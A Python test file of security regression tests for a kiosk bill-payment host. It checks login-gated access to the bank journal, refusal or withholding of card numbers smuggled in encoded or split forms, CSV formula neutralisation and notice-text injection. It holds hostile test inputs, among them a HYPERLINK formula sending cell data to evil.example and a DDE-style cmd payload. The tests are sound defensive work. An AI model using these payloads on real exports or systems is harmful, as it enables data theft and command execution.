"""Penetration-test findings on card data, tried as an attacker would: the bank
journal read without signing in, full card numbers smuggled into what the
host keeps (spaced out, split across fields, encoded, behind a date), formula
cells in the CSV exports, and the console's notices made to say a link's text.
Each test here failed before the fix (host/bank/card_guard.py, host/csv_cells.py,
the console's bank-journal.csv and notice())."""
from __future__ import annotations

import base64
import csv
import dataclasses
import io
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import httpx
import pytest
from tests.support.bank8583 import Terminal, start_front_end
from tests.support.clocks import running_from
from tests.support.fleet import SignedKiosk, status
from sqlalchemy import func, select
from sqlalchemy.engine import Engine

from host.bank.card_guard import WITHHELD, looks_like_pan, pan_across
from host.csv_cells import safe_cell
from host.schema.bank import bank_journal, bank_link_journal, property_backups
from host.schema.cards import card_txns

KIOSK = "KIOSK-DEMO-01"
TMK = bytes.fromhex("7DF0AC87953F75AECD424B5A3BBFF50B")
PAN = "6222021000000000017"           # the demo's good card (ICBC), PIN 123456
PIN = "123456"
SERIAL = "00002601000000000003"      # 王芳's IC card in the seeded registry
STAFF = {"look": ("look-pass-123", "viewer"), "boss": ("boss-pass-123", "admin")}
TXN_ID = f"{KIOSK}-20261121105310-8C6EDC"


@dataclass
class Host:
    url: str
    engine: Engine
    app: Any
    kiosk: SignedKiosk

    def staff(self, username: str | None = None, *, lang: str = "en") -> httpx.Client:
        client = httpx.Client(base_url=self.url, timeout=10, cookies={"console_lang": lang})
        if username is not None:
            page = client.get("/console/login")
            token = re.search(r'name="login_token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
            reply = client.post("/console/login", data={"login_token": token, "username": username,
                                                        "password": STAFF[username][0], "next": "/console/"})
            assert reply.status_code == 303
        return client

    def counts(self) -> dict[str, int]:
        with self.engine.connect() as conn:
            return {t.name: conn.execute(select(func.count()).select_from(t)).scalar_one()
                    for t in (property_backups, bank_journal, bank_link_journal, card_txns)}

    def bill(self, house_no: str) -> dict[str, Any]:
        from host.billing import household_bill
        with self.engine.connect() as conn:
            return household_bill(conn, house_no, date(2026, 11, 21), self.app_settings)

    app_settings: Any = None
    link: Any = None     # the demo kiosk's terminal on the bank link (tests.support.bank8583.Terminal)


@pytest.fixture
def host(demo_db: Path, tmp_path: Path, today: date) -> Iterator[Host]:
    from host.app import create_app
    from host.config import load_host_settings
    from host.console.accounts import Accounts
    from host.console.passwords import Cost
    from host.db import make_engine
    from host.server import HostServer

    db = tmp_path / "host.sqlite3"
    shutil.copy(demo_db, db)
    settings = load_host_settings()
    settings = dataclasses.replace(settings, database_url=f"sqlite:///{db}",
                                   console=dataclasses.replace(settings.console, demo_accounts=False))
    engine = make_engine(settings.database_url)
    app = create_app(settings, engine, clock=running_from(today))     # creates the console's tables
    accounts = Accounts(engine, settings.console, cost=Cost(n=2 ** 10, r=8, p=1))
    for name, (password, role) in STAFF.items():
        accounts.add(name, password, role, by="test")
    server = HostServer(app)
    server.start()
    start_front_end(server, settings, engine, running_from(today))   # bill payments go over ISO 8583
    kiosk = SignedKiosk(server.url, KIOSK, TMK)
    kiosk.sign_on()
    env = Host(server.url, engine, app, kiosk)
    env.app_settings = settings
    env.link = Terminal(server.bank_port, tmk=TMK)
    assert env.link.sign_on().message.fields[39] == "00"
    try:
        yield env
    finally:
        kiosk.close()
        server.bank.stop()
        server.stop()
        engine.dispose()


def _card() -> Any:
    from common.demo_cards import load_test_cards
    return next(c for c in load_test_cards().cards if c.pan == PAN)


def _periods(bill: dict[str, Any]) -> list[str]:
    periods = [a["period"] for a in bill["arrears"]]
    if bill["current"] and not bill["current"]["paid"]:
        periods.append(bill["current"]["period"])
    return sorted(periods)


def _link_pay(host: Host, house_no: str = "3-2-1202", bill_ref: str | None = None) -> dict[str, str]:
    """A bill payment over the bank link, as the demo kiosk's terminal sends it."""
    bill, card = host.bill(house_no), _card()
    reply = host.link.purchase(card.track2, card.pin, card.pan, bill["total_due_fen"],
                               bill_ref=bill_ref or f"H={house_no};P={','.join(_periods(bill))}").message.fields
    assert reply[39] == "00"
    return {"stan": str(reply[11]), "rrn": str(reply[37]).strip(), "auth_code": str(reply[38]).strip(),
            "amount_fen": str(bill["total_due_fen"])}


# --- 1. the bank journal is staff data --------------------------------------------------
def test_the_bank_journal_is_not_on_the_kiosk_api_and_needs_a_signed_in_viewer(host: Host) -> None:
    approved = _link_pay(host)
    anonymous = host.staff()
    assert anonymous.get("/api/v1/bank/journal", params={"day": "2026-11-21"}).status_code == 404
    refused = anonymous.get("/console/bank-journal.csv", params={"day": "2026-11-21"},
                            headers={"Accept": "application/json"})
    assert refused.status_code == 401 and approved["auth_code"] not in refused.text
    redirected = anonymous.get("/console/bank-journal.csv", params={"day": "2026-11-21"})
    assert redirected.status_code == 303 and "/console/login" in redirected.headers["location"]

    viewer = host.staff("look")
    journal = viewer.get("/console/bank-journal.csv", params={"day": "2026-11-21"})
    assert journal.status_code == 200 and journal.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(journal.text)))
    assert [(r["stan"], r["type"], r["result"], r["reference"], r["auth_code"], r["kiosk_id"]) for r in rows] == [
        (approved["stan"], "purchase", "approved", approved["rrn"], approved["auth_code"], KIOSK)]
    assert PAN not in journal.text
    from host.console.mount import console_of
    entries, _ = console_of(host.app).audit.page(action="export")
    assert [(e.username, e.target) for e in entries][:1] == [("look", "bank-journal.csv")]
    assert viewer.get("/console/bank-journal.csv", params={"day": "21/11/2026"}).status_code == 400
    anonymous.close()
    viewer.close()


# --- 2. no full card number anywhere a kiosk message reaches disk ---------------------------
SPACED, DASHED, DOTTED = "6222 0210 0000 0000 017", "6222-0210-0000-0000-017", "6222.0210.0000.0000.017"
B64, B64_URL, HEX = (base64.b64encode(PAN.encode()).decode(),
                     base64.urlsafe_b64encode(f"card {PAN}".encode()).decode().rstrip("="), PAN.encode().hex())
FULL_WIDTH = "".join(chr(0xFF10 + int(d)) for d in PAN)

# (what the attacker tries, the copy's extra or replaced fields)
COPY_ATTACKS = [
    ("spaces", {"masked_pan": SPACED}),
    ("dashes", {"note": f"card {DASHED}"}),
    ("dots", {"reference": DOTTED}),
    ("slashes and a date in the middle", {"note": "6222/0210/20261121/0000/0000/017"}),
    ("split across two fields", {"note_a": "6222021000", "note_b": "000000017"}),
    ("split between the txn id and a field", {"txn_id": "T-622202100", "note": "0000000017"}),
    ("split by letters", {"note": "6222x0210x0000x0000x017"}),
    ("base64", {"note": B64}),
    ("base64 (URL-safe, no padding, prefixed)", {"note": "ref" + B64_URL}),
    ("hex", {"auth_code": HEX}),
    ("date glued in front, in the txn id", {"txn_id": f"{KIOSK}-20261121{PAN}-8C6EDC"}),
    ("date-time glued in front", {"at": f"20261121105310{PAN}"}),
    ("full-width digits", {"house_no": FULL_WIDTH}),
    ("spaced out as a dict key", {"extra": {SPACED: 1}}),
]


def _copy(txn_id: str = TXN_ID, **fields: Any) -> dict[str, Any]:
    return {"amount_fen": 126931, "at": "2026-11-21T10:53:10", "auth_code": "123456",
            "business_day": "2026-11-21", "house_no": "3-2-1202", "masked_pan": "622202*********0017",
            "reference": "261121000001", "result": "approved", "txn_id": txn_id, **fields}


@pytest.mark.parametrize("fields", [f for _, f in COPY_ATTACKS], ids=[name for name, _ in COPY_ATTACKS])
def test_a_backup_copy_smuggling_a_card_number_is_refused(host: Host, fields: dict[str, Any]) -> None:
    before = host.counts()
    reply = host.kiosk.backup(_copy(**fields))
    assert reply.status == 400 and reply.mac_ok and reply.json["error"] == "bad_request"
    assert "card number" in reply.json["message"]
    assert host.counts() == before


REASON_ATTACKS = [("spaces", SPACED), ("dashes", f"pan {DASHED}"), ("dots", DOTTED), ("base64", B64),
                  ("hex", HEX), ("date glued in front", f"20261121{PAN}"), ("plain", f"card {PAN} swiped"),
                  ("split by a date", "62220210 2026-11-21 00000000017")]


def _stored_text(host: Host) -> str:
    """Every text column the bank and card centre keep, as one string."""
    with host.engine.connect() as conn:
        rows = [*conn.execute(select(bank_journal)), *conn.execute(select(bank_link_journal)),
                *conn.execute(select(card_txns))]
    return " ".join(str(v) for row in rows for v in row)


def test_a_reversal_over_the_link_keeps_its_reason_code_and_no_card_data(host: Host) -> None:
    """A reversal's reason on the bank link is a response code (39, two
    characters): it cannot carry a card number. The free-text reasons left are
    the card centre's (below)."""
    approved = _link_pay(host)
    reply = host.link.reversal(approved["stan"], int(approved["amount_fen"]), "98").message.fields
    assert reply[39] == "00"
    with host.engine.connect() as conn:
        assert conn.scalars(select(bank_link_journal.c.reversal_code).where(
            bank_link_journal.c.rrn == approved["rrn"])).all() == ["98"]
    assert not looks_like_pan(_stored_text(host).replace(" ", "x"))


@pytest.mark.parametrize("reason", [r for _, r in REASON_ATTACKS], ids=[name for name, _ in REASON_ATTACKS])
def test_a_wallet_cancel_reason_holding_a_card_number_is_withheld_never_refused(host: Host, reason: str) -> None:
    """Refusing the cancel would leave the resident's money in doubt for ever (the
    kiosk retries it): it is taken, its reason withheld."""
    txn_id = f"{KIOSK}-20261121110000-ABCDE0"
    reply = host.kiosk.post("/api/v1/cards/purchase/cancel", {"txn_id": txn_id, "reason": reason})
    assert reply.status == 200 and reply.json["status"] == "not_found", reason   # a tombstone, reason withheld
    with host.engine.connect() as conn:
        assert conn.scalars(select(card_txns.c.code).where(card_txns.c.txn_id == txn_id)).all() == \
            [WITHHELD[:32]]
    assert not looks_like_pan(_stored_text(host).replace(" ", "x"))
    fine = host.kiosk.post("/api/v1/cards/purchase/cancel", {"txn_id": f"{KIOSK}-20261121110000-ABCDEF",
                                                             "reason": "card not returned"})
    assert fine.status == 200 and fine.json["status"] == "not_found"


def _status(host: Host) -> Any:
    from host.console.mount import console_of
    return console_of(host.app).fleet.registry.records[KIOSK].status


def test_a_heartbeat_whose_free_text_holds_a_card_number_is_taken_with_the_text_withheld(host: Host) -> None:
    """Refusing it would show the kiosk offline: the report is kept, its text withheld."""
    for last_error in ({"at": "2026-11-21T10:05:00", "message": f"swipe {DASHED} failed"},
                       {"at": "2026-11-21T10:05:00", "message": f"track {B64}"}):
        reply = host.kiosk.heartbeat(**{"last_error": last_error})
        assert reply.status == 200, reply.body
        assert _status(host).last_error == WITHHELD
    device = status(devices={"printer": {"state": "fault", "reason": f"20261121{PAN}"}})
    assert host.kiosk.heartbeat(**device).status == 200
    assert _status(host).devices["printer"].reason == WITHHELD
    assert host.kiosk.heartbeat(app_version=f"1.0 {DASHED}").status == 400   # not free text: refused
    fine = host.kiosk.heartbeat(last_error={"at": "2026-11-21T10:05:00",
                                            "message": f"printer 192.168.100.200:9100: [Errno 113]; {TXN_ID}"})
    assert fine.status == 200, fine.body
    assert _status(host).last_error.startswith("printer 192.168.100.200:9100")   # innocent numbers: kept


# --- legitimate traffic still passes ----------------------------------------------------------
def test_legitimate_copies_are_still_stored(host: Host) -> None:
    approved = _link_pay(host)
    copies = [
        _copy(reference=approved["rrn"], auth_code=approved["auth_code"]),
        _copy(f"{KIOSK}-20261121-000042", result="declined", reference="", auth_code=""),   # docs' example id
        _copy(f"{KIOSK}-20261121235959-0F0F0F", result="not_sent", reference="", auth_code="",
              business_day=None),
        {"txn_id": f"{KIOSK}-20261121111111-123456", "kind": "wallet_purchase", "house_no": "3-2-1202",
         "amount_fen": 126931, "masked_pan": None, "result": "completed", "reference": "W26112100042",
         "wallet": "EP", "card": SERIAL, "at": "2026-11-21T11:11:11"},
    ]
    for copy in copies:
        reply = host.kiosk.backup(copy)
        assert reply.status == 200 and reply.json == {"stored": True}, (copy, reply.body)
    with host.engine.connect() as conn:
        stored = conn.execute(select(property_backups.c.txn_id)).scalars().all()
    assert sorted(stored) == sorted(c["txn_id"] for c in copies)


def test_what_the_guard_lets_through_and_what_it_does_not() -> None:
    for legit in (TXN_ID, f"{KIOSK}-20261121-000042", "622202*********0017", "261121000042", "W26112100042",
                  "123456", "2026-11-21T10:31:05", "20261121105310102", "bank link 127.0.0.1:8583: ReadTimeout",
                  "printer 192.168.100.200:9100: [Errno 113] No route to host", "-126931"):
        assert not looks_like_pan(legit), legit
    for smuggled in (SPACED, DASHED, DOTTED, B64, HEX, FULL_WIDTH, f"20261121{PAN}", f"20261121105310{PAN}",
                     f"2026-11-21 {SPACED}", PAN.encode("utf-16-le").decode("latin-1")):
        assert looks_like_pan(smuggled), smuggled
    assert pan_across(["T-622202100", "0000000017"]) and not pan_across([TXN_ID, "printer jam", "126931"])


# --- 3. CSV cells that a spreadsheet would run --------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def test_formula_cells_are_neutralised_in_the_journal_and_the_console_export(host: Host) -> None:
    """A terminal's bill reference (63) in the bank journal's export and a
    kiosk's txn id (its copy) in the transactions' export."""
    approved = _link_pay(host, bill_ref=FORMULA)
    weird = "@SUM(1+1)*cmd|' /C calc'!A0"
    assert host.kiosk.backup({"txn_id": weird, "house_no": "3-2-1202", "amount_fen": int(approved["amount_fen"]),
                              "masked_pan": "622202*********0017", "result": "approved",
                              "reference": approved["rrn"], "auth_code": approved["auth_code"],
                              "at": "2026-11-21T10:30:00"}).status == 200
    viewer = host.staff("look")
    journal = list(csv.DictReader(io.StringIO(viewer.get("/console/bank-journal.csv",
                                                         params={"day": "2026-11-21"}).text)))
    assert [r["bill_ref"] for r in journal] == ["'" + FORMULA]
    assert {r["amount_fen"] for r in journal} == {approved["amount_fen"]}            # numbers stay numbers

    export = viewer.get("/console/transactions.csv", params={"from": "2026-11-21", "to": "2026-11-21"})
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    mine = [r for r in rows if r["txn_id"].endswith(weird)]
    assert mine and all(r["txn_id"] == "'" + weird for r in mine)
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r.values())
    viewer.close()


def test_one_cell_rule() -> None:
    assert safe_cell(FORMULA) == "'" + FORMULA
    for text in ("+86 138 0000 0000", "-2+3", "@cmd", "\t=1", "\r=1", "＝1+1"):
        assert safe_cell(text) == "'" + text
    for value in (-1234, "-1234", "-12.34", "+5", 0, "3-2-1202", "622202*********0017", "", None):
        assert safe_cell(value) == value


# --- 4. notices say only what the console said ----------------------------------------------------
def test_a_notice_does_not_echo_a_links_text(host: Host) -> None:
    viewer = host.staff("look")
    bait = "Kiosks hacked! Call 400-123-4567 now"
    page = viewer.get("/console/commands", params={"msg": "cmd.sent_all", "n": bait})
    assert page.status_code == 200 and "Call 400" not in page.text and 'class="notice ok"' not in page.text
    page = viewer.get("/console/", params={"msg": "cmd.sent_all", "n": bait})
    assert "Call 400" not in page.text and 'class="notice ok"' not in page.text
    assert "Sent to 3 kiosks." in viewer.get("/console/commands", params={"msg": "cmd.sent_all", "n": "3"}).text
    assert 'class="notice ok"' not in viewer.get("/console/commands", params={"msg": "evil.key", "n": "3"}).text

    admin = host.staff("boss")
    users = admin.get("/console/users", params={"msg": "users.added", "name": bait})
    assert users.status_code == 200 and "Call 400" not in users.text and 'class="notice ok"' not in users.text
    assert "Added look." in admin.get("/console/users", params={"msg": "users.added", "name": "look"}).text
    viewer.close()
    admin.close()
